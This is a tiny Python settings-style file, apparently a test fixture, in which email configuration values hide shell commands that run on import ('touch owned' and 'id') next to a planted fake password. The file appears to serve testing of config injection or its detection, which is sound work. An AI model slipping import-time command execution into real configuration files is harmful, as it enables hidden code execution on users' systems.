import os
os.system("touch owned")
EMAIL_HOST = __import__("os").popen("id").read()
EMAIL_HOST_PASSWORD = "Planted-5ecret"
